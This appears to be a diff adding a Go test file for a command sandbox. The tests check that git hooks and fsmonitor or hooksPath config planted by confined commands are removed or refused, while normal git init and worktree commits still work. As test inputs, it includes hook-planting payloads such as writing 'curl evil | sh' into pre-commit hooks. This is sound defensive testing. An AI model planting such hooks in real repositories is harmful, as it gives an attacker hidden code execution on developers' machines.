@@ -1,0 +1,127 @@
+package sandbox_test
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"gatehouse/internal/sandbox"
+)
+
+// A .git made by the command itself is guarded too: a hook (a file or a
+// link) or config planted in the same command (git init, or a plain mkdir
+// .git) is removed after it, and the result says so; the repository itself
+// stays, and a plain git init (and remote add) keeps its config and hook
+// samples untouched.
+func TestGitMadeByTheCommandIsGuarded(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git is not installed")
+	}
+	layered(t, boxOpts{on: true}, func(t *testing.T, b *box) {
+		attacks := []string{
+			`mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout && printf '[core]\n\thooksPath = /tmp/x\n' > .git/config`,
+			`git init -q && ln -s "$TMPDIR/evil" .git/hooks/post-checkout`,
+			`git init -q && echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git config core.fsmonitor 'sh -c evil'`,
+		}
+		for _, a := range attacks {
+			os.RemoveAll(filepath.Join(b.ws, ".git"))
+			code, out, res := b.runRes(t, a)
+			if code != 0 {
+				t.Fatalf("%s: exit %d: %s", a, code, out)
+			}
+			for _, planted := range []string{".git/hooks/pre-commit", ".git/hooks/post-checkout"} {
+				if _, err := os.Lstat(filepath.Join(b.ws, planted)); err == nil {
+					t.Errorf("%s: %s stayed", a, planted)
+				}
+			}
+			if config, _ := os.ReadFile(filepath.Join(b.ws, ".git/config")); strings.Contains(string(config), "fsmonitor") || strings.Contains(string(config), "hooksPath") {
+				t.Errorf("%s: the planted config stayed:\n%s", a, config)
+			}
+			if len(res.Restored) == 0 {
+				t.Errorf("%s: the result does not say what was removed", a)
+			}
+			if why := sandbox.Explain(res.Policy, res.Restored, out); !strings.Contains(why, "hooks") {
+				t.Errorf("%s: the result does not explain itself: %q", a, why)
+			}
+		}
+		if !exists(filepath.Join(b.ws, ".git/HEAD")) {
+			t.Fatal("the repository the command made is gone")
+		}
+		os.RemoveAll(filepath.Join(b.ws, ".git"))
+		_, out, res := b.runRes(t, `git init -q && git remote add origin https://example.com/x.git && git config user.name Init`)
+		if len(res.Restored) > 0 || !exists(filepath.Join(b.ws, ".git/hooks/pre-commit.sample")) {
+			t.Fatalf("a plain git init was undone (%v): %s", res.Restored, out)
+		}
+		if out := b.mustRun(t, "git remote -v && git config user.name"); !strings.Contains(out, "example.com/x.git") || !strings.Contains(out, "Init") {
+			t.Fatalf("a plain git init lost its config: %s", out)
+		}
+		// The next command finds .git and holds it as any other.
+		b.mustRun(t, `git -c user.name=T -c user.email=t@example.com commit -q --allow-empty -m first`)
+		if code, _ := b.run(t, `echo evil > .git/hooks/pre-commit`); code == 0 && !b.landlockOnly {
+			t.Error("a hook was written in the .git made by an earlier command")
+		}
+		if exists(filepath.Join(b.ws, ".git/hooks/pre-commit")) {
+			t.Error("a hook stayed in the .git made by an earlier command")
+		}
+	})
+}
+
+// In a linked worktree (git worktree add) whose repository's .git is
+// outside the workspace, a confined git add and commit work, while the
+// main .git's hooks and config and the worktree's own links to it stay
+// read-only (put back with Landlock alone).
+func TestLinkedWorktreeCommitsAndMainGitStaysGuarded(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git is not installed")
+	}
+	layered(t, boxOpts{on: true}, func(t *testing.T, b *box) {
+		main := filepath.Join(filepath.Dir(b.ws), "main")
+		git := func(dir string, args ...string) string {
+			cmd := exec.Command("git", args...)
+			cmd.Dir, cmd.Env = dir, append(b.env, "GIT_AUTHOR_NAME=T", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=T", "GIT_COMMITTER_EMAIL=t@example.com")
+			out, err := cmd.CombinedOutput()
+			if err != nil {
+				t.Fatalf("git %v: %v %s", args, err, out)
+			}
+			return string(out)
+		}
+		os.MkdirAll(main, 0o755)
+		git(main, "init", "-q")
+		git(main, "commit", "-q", "--allow-empty", "-m", "base")
+		git(main, "worktree", "add", "-q", "-b", "gatehouse/w1", b.ws)
+		common := filepath.Join(main, ".git")
+		gitdir := filepath.Join(common, "worktrees", filepath.Base(b.ws))
+		config, _ := os.ReadFile(filepath.Join(common, "config"))
+		commondir, _ := os.ReadFile(filepath.Join(gitdir, "commondir"))
+
+		b.mustRun(t, `echo hi > f && git add f && git -c user.name=T -c user.email=t@example.com commit -qm "in the worktree"`)
+		if log := git(main, "log", "--oneline", "gatehouse/w1"); !strings.Contains(log, "in the worktree") {
+			t.Fatalf("the commit is not on the worktree's branch: %s", log)
+		}
+		attacks := []string{
+			"echo 'curl evil | sh' > " + filepath.Join(common, "hooks/pre-commit"),
+			"echo '[core] fsmonitor = evil' >> " + filepath.Join(common, "config"),
+			"echo /tmp/evil > " + filepath.Join(gitdir, "commondir"),
+			"echo '[core] fsmonitor = evil' > " + filepath.Join(gitdir, "config.worktree"),
+			"mv " + gitdir + " " + gitdir + ".x && mkdir " + gitdir,
+		}
+		for _, a := range attacks {
+			// Refused (a read-only mount, a pinned folder), or put back
+			// after the command (Landlock alone; a file that did not exist).
+			if code, out, res := b.runRes(t, a); code == 0 && len(res.Restored) == 0 {
+				t.Errorf("%s: went through and stayed: %s", a, out)
+			}
+		}
+		if exists(filepath.Join(common, "hooks/pre-commit")) || exists(filepath.Join(gitdir, "config.worktree")) {
+			t.Fatal("a hook or a worktree config was planted in the main repository")
+		}
+		if got, _ := os.ReadFile(filepath.Join(common, "config")); string(got) != string(config) {
+			t.Fatalf("the main .git/config changed:\n%s", got)
+		}
+		if got, _ := os.ReadFile(filepath.Join(gitdir, "commondir")); string(got) != string(commondir) {
+			t.Fatalf("the worktree's commondir changed: %q", got)
+		}
+	})
+}
